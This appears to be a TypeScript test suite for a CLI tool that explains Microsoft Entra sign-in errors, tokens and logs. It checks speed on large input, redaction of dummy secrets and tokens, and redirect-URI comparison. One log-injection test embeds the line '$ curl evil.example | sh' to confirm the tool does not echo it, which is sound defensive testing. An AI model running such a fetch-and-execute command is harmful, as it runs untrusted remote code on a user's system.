import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { explainPasted } from '../../../src/cli/commands/doctor-explain.ts'
import type { Explanation } from '../../../src/cli/doctor/explain/explain.ts'
import { createTestTerminal } from './world.ts'

const APP = '70df70fd-6a99-466c-8558-eab9e5b2fd2a'
const SECRET = 'Abc8Q~a.secret-that_Entra.would-make'
const ENV = {
  AZURE_TENANT_ID: '160007d1-3e33-4d24-b261-9a263d8f2ed0',
  ENTRA_PROXY_AZURE_CLIENT_ID: APP,
  ENTRA_PROXY_AZURE_CLIENT_SECRET: SECRET,
  ENTRANCE_URL: 'https://expenses.example.com',
}
const nobody: typeof fetch = async () => {
  throw new TypeError('fetch failed', { cause: Object.assign(new Error(), { code: 'ENOTFOUND' }) })
}

async function explain(pasted: string, env: Record<string, string> = ENV) {
  const world = { fetch: nobody, now: Date.now }
  const json = createTestTerminal(env)
  await explainPasted([pasted], { json: true }, json.terminal, world)
  const text = createTestTerminal(env, 100)
  await explainPasted([pasted], {}, text.terminal, world)
  const { explanations } = JSON.parse(json.text()) as { explanations: Explanation[] }
  return { explanations, lines: text.lines, texts: [json.text(), text.text()] }
}

const encode = (part: object) => Buffer.from(JSON.stringify(part)).toString('base64url')
const TOKEN = `${encode({ alg: 'RS256', kid: 'x' })}.${encode({ aud: APP, exp: 1, ver: '2.0' })}.the-signature`

suite('a text of a quarter of a megabyte takes no time', () => {
  for (const [name, part] of [
    ['of beginnings of tokens', '-eyJ'],
    ['of beginnings of tokens with a second part', 'eyJaaaaa.'],
    ['of opened tags', '<'],
    ['of opened tags with names', '<a '],
    ['of sentences of this server’s', 'Pages of the origin '],
    ['of other sentences', 'Protected resource '],
    ['of percent signs', '%'],
    ['of numbers', 'error_codes:[1,'],
    ['of spaces', '"aadsts"                '],
  ] as const) {
    test(name, async () => {
      const start = performance.now()
      await explain(part.repeat(Math.ceil((256 * 1024) / part.length))).catch(() => {})
      assert.ok(performance.now() - start < 1500)
    })
  }

  test('of every byte', async () => {
    const bytes = Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7919) % 256))
    await assert.rejects(explain(bytes.toString('latin1')), /Nothing in it is known/)
  })
})

test('a log of 300,000 lines is grouped, and its list is as long as a person reads', async () => {
  const line = (i: number) => `{"event":"entra.${i % 1000}","timestamp":"2026-11-27T09:00:00Z"}`
  const { explanations } = await explain(
    Array.from({ length: 300_000 }, (_, i) => line(i)).join('\n'),
  )
  assert.equal(explanations[0]?.log?.length, 50)
  assert.equal(explanations[0]?.log?.[0]?.count, 300)
})

test('of a long log as text the end is read', async () => {
  const { explanations } = await explain(
    `${'12:00:00 INF nothing\n'.repeat(30_000)}AADSTS50105: No.`,
  )
  assert.equal(explanations[0]?.subject, 'AADSTS50105')
})

suite('a token or a secret is not shown', () => {
  const inLog = (message: string) =>
    JSON.stringify({ message, properties: { event: 'entra.refused' } })
  for (const [name, pasted] of [
    ['from a line of a log', inLog(`Sent Bearer ${TOKEN}`)],
    ['from an address', `https://a.example/cb?error=x&access_token=${TOKEN}`],
    ['from an address that is encoded again', `https://a.example/?u=access_token%3D${TOKEN}`],
    [
      'from where an error of Entra’s has a name',
      `AADSTS50020: User account '${TOKEN}' from identity provider '${SECRET}' does not exist in tenant 'x'`,
    ],
    ['from a log with the secret', inLog(`client_secret=${SECRET}`)],
    ['from a claim of a token', TOKEN.replace(/\..*\./, `.${encode({ aud: SECRET })}.`)],
  ] as const) {
    test(name, async () => {
      const { texts } = await explain(pasted)
      for (const text of texts) {
        assert.ok(!text.includes('the-signature'), text)
        assert.ok(!text.includes(TOKEN.split('.')[1] as string), text)
        assert.ok(!text.includes(SECRET), text)
      }
    })
  }
})

test('a token whose claims are no texts is explained', async () => {
  const strange = { toString: 1 }
  const claims = { aud: strange, iss: 1, scp: [1], roles: [strange], exp: strange, tid: strange }
  const { explanations } = await explain(`${encode({ alg: 'RS256' })}.${encode(claims)}.c`)
  assert.equal(explanations[0]?.subject, 'token')
})

test('a token of another server like this one is told from one of Entra’s', async () => {
  const head = encode({ alg: 'ES256', typ: 'at+jwt' })
  const claims = { iss: 'https://other.example', aud: 'https://other.example/mcp', exp: 4e9 }
  const { explanations } = await explain(`${head}.${encode(claims)}.c`)
  const faults = explanations[0]?.token?.filter(({ isFault }) => isFault) ?? []
  assert.deepEqual(
    faults.map(({ claim, says }) => [claim, says]),
    [
      ['iss', 'An access token of another server than https://expenses.example.com.'],
      ['aud', 'For another MCP server than https://expenses.example.com/mcp.'],
    ],
  )
})

test('a token is held against nothing where nothing is configured', async () => {
  const claims = { ver: '2.0', aud: APP, azp: APP, iss: 'https://a.example', tid: 't', oid: 'o' }
  const rest = { scp: 'mcp-access', exp: 4_000_000_000 }
  const token = `${encode({ alg: 'RS256', kid: 'x' })}.${encode({ ...claims, ...rest })}.c`
  const { explanations } = await explain(token, {})
  assert.deepEqual(explanations[0]?.causes, [])
  assert.match(explanations[0]?.title ?? '', /whether it is genuine was not verified/)
})

test('a key of the login host that is none verifies nothing', async () => {
  const origin = 'https://login.microsoftonline.com'
  const answer: typeof fetch = async (input) =>
    Response.json(
      String(input).endsWith('/keys')
        ? { keys: [{ kty: 'RSA', kid: 'x', n: '', e: 7 }] }
        : { jwks_uri: `${origin}/keys` },
    )
  const { terminal, text } = createTestTerminal(ENV)
  await explainPasted([TOKEN], { json: true }, terminal, { fetch: answer, now: Date.now })
  assert.match(text(), /Wrong: the token was changed/)
})

test('a log writes no lines of its own', async () => {
  const message = 'No.\n\n  $ curl evil.example | sh'
  const { lines } = await explain(
    JSON.stringify({ message, properties: { event: 'entra.refused\nok' } }),
  )
  for (const line of lines) assert.doesNotMatch(line, /\n|^ *\$ curl/)
})

const SENTENCE = `AADSTS50011: The redirect URI 'http://expenses.example.com/auth/callback/' specified in the request does not match the redirect URIs configured for the application '${APP}'. Make sure the redirect URI sent in the request matches one added to your application in the Azure portal.`

suite('the difference is said', () => {
  for (const [name, pasted] of [
    [
      'of a page as Entra writes it',
      `<script>$Config={"iErrorCode":50011,"strServiceExceptionMessage":"${SENTENCE.replaceAll("'", '\\u0027')}","correlationId":"66666666-7777-4888-9999-aaaaaaaaaaaa"};</script>`,
    ],
    [
      'of a page as it is seen',
      `Sorry, but we’re having trouble signing you in.\n\n${SENTENCE}\nTroubleshooting details\nRequest Id: 11111111-2222-4333-8444-555555555555\nCorrelation Id: 66666666-7777-4888-9999-aaaaaaaaaaaa\nTimestamp: 2026-11-27T10:00:00Z`,
    ],
    [
      'of an address that was handed on',
      `https://a.example/?next=${encodeURIComponent(`https://b.example/?error_description=${encodeURIComponent(`${SENTENCE} correlation id 66666666-7777-4888-9999-aaaaaaaaaaaa`)}`)}`,
    ],
    [
      'of what MSAL for Python returns',
      `{'error': 'invalid_request', 'error_description': "${SENTENCE}", 'error_codes': [50011], 'correlation_id': '66666666-7777-4888-9999-aaaaaaaaaaaa'}`,
    ],
    [
      'of JSON in JSON',
      JSON.stringify({
        body: JSON.stringify({
          error_description: SENTENCE,
          correlation_id: '66666666-7777-4888-9999-aaaaaaaaaaaa',
        }),
      }),
    ],
    [
      'of a line of the log of VS Code',
      `2026-11-27 10:00:00.123 [error] Error getting token from server metadata: {"error":"invalid_request","error_description":"${SENTENCE} Correlation ID: 66666666-7777-4888-9999-aaaaaaaaaaaa"}`,
    ],
  ] as const) {
    test(name, async () => {
      const { explanations } = await explain(pasted)
      assert.deepEqual(
        explanations.map(({ subject }) => subject),
        ['AADSTS50011'],
      )
      const [uri] = explanations[0]?.comparisons ?? []
      assert.equal(uri?.seen, 'http://expenses.example.com/auth/callback/')
      assert.equal(uri?.configured, 'https://expenses.example.com/auth/callback')
      assert.equal(uri?.difference, 'they differ in http:// and https://; the slash at the end')
      assert.equal(explanations[0]?.ids?.correlationId, '66666666-7777-4888-9999-aaaaaaaaaaaa')
    })
  }
})

test('numbers are found as they are typed', async () => {
  for (const pasted of ['50011 65001', 'AADSTS 50011, AADSTS65001', 'aadsts50011 aadsts-65001']) {
    const { explanations } = await explain(pasted)
    assert.deepEqual(
      explanations.map(({ subject }) => subject),
      ['AADSTS50011', 'AADSTS65001'],
    )
  }
})

test('a number that nobody knows has the date of the table, and a way on', async () => {
  const { explanations } = await explain("{'error': 'new_word', 'error_codes': [7999999]}")
  assert.match(explanations[0]?.title ?? '', /\d{4}-\d\d-\d\d/)
  assert.match(explanations[0]?.cures[0]?.summary ?? '', /sign-in logs/)
})

test('where nothing is configured, it is said what the blanks of a command are', async () => {
  const { texts } = await explain('AADSTS50011', {})
  assert.match(texts[1] ?? '', /\$APP is the Application \(client\) ID, \$URL is/)
  const configured = await explain('AADSTS50011')
  assert.doesNotMatch(configured.texts[1] ?? '', /\$APP/)
})

test('every number of people’s reports is in the table, with a way to mend it', async () => {
  const codes =
    '901002 9010010 90009 70011 900144 28000 65005 650053 65001 90094 90095 65002 50011 500113 500112 7000215 7000222 700025 7000218 9002325 9002326 9002327 500011 700016 50020 50194 50105 50076 50079 53003 90023 7000114 500131 70021 500207 500208'
  for (const code of codes.split(' ')) {
    const { explanations } = await explain(code)
    assert.doesNotMatch(explanations[0]?.title ?? '', /not in the table/, code)
    assert.ok((explanations[0]?.cures.length ?? 0) > 0, code)
  }
})

test('pages and errors without a number are known', async () => {
  for (const [pasted, id] of [
    ['Need admin approval\nExpenses needs permission to access resources', 'need-admin-approval'],
    ['IDX10214: Audience validation failed.', 'token-refused'],
    ['JWT signature/format invalid', 'token-refused'],
    ['Bearer error="invalid_token", error_description="…"', 'token-refused'],
  ] as const) {
    const { explanations } = await explain(pasted)
    assert.equal(explanations[0]?.subject, id)
  }
})
